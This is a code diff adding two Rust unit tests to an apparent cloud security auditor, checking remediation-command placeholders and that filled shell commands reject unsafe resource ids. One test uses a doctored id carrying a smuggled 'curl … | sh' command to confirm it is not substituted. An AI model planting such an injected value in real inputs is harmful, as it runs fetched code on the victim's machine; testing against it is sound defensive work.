@@ -392,6 +392,65 @@ mod tests {
     }
 
     #[test]
+    fn remediation_placeholders_are_the_resources_or_named_user_values() {
+        // A resource placeholder is filled per finding; anything else in angle brackets is
+        // a value only the user knows (their key's ARN, their log bucket). A misspelt
+        // resource placeholder (`<sg>`, `<repo>`) would stay unfilled in every finding.
+        const USER_VALUES: &[&str] = &[
+            "key arn",
+            "log bucket",
+            "issuer",
+            "namespace",
+            "service-account",
+            "team",
+            "prefix",
+            "service",
+        ];
+        for c in CHECKS {
+            let m = c.meta();
+            let text = m.remediation();
+            let mut rest = text.as_str();
+            while let Some(open) = rest.find('<') {
+                let after = &rest[open + 1..];
+                let Some(close) = after.find('>') else { break };
+                let token = &after[..close];
+                if token
+                    .chars()
+                    .all(|ch| ch.is_ascii_lowercase() || ch == '-' || ch == ' ')
+                {
+                    assert!(
+                        crate::RESOURCE_PLACEHOLDERS.contains(&token) || USER_VALUES.contains(&token),
+                        "{}: remediation placeholder <{token}> is neither a resource's nor a named user value",
+                        m.code
+                    );
+                }
+                rest = &after[close..];
+            }
+        }
+    }
+
+    #[test]
+    fn remediation_fills_only_values_safe_in_a_shell_command() {
+        let r = |id: &str| auditor_model::Resource {
+            arn: format!("arn:aws:ec2:eu-west-1:111122223333:security-group/{id}"),
+            account: "111122223333".into(),
+            region: Some("eu-west-1".into()),
+            kind: "security-group".into(),
+            id: id.into(),
+            name: None,
+        };
+        let t =
+            "aws ec2 revoke-security-group-ingress --region <region> --group-id <security-group>";
+        assert_eq!(
+            crate::fill_remediation(t, &r("sg-0abc")),
+            "aws ec2 revoke-security-group-ingress --region eu-west-1 --group-id sg-0abc"
+        );
+        // From a doctored saved inventory: left as the placeholder.
+        assert!(crate::fill_remediation(t, &r("sg-1;curl x|sh")).contains("<security-group>"));
+        assert!(crate::fill_remediation(t, &r("*")).contains("<security-group>"));
+    }
+
+    #[test]
     fn every_check_has_its_doc_sections() {
         for c in CHECKS {
             let m = c.meta();
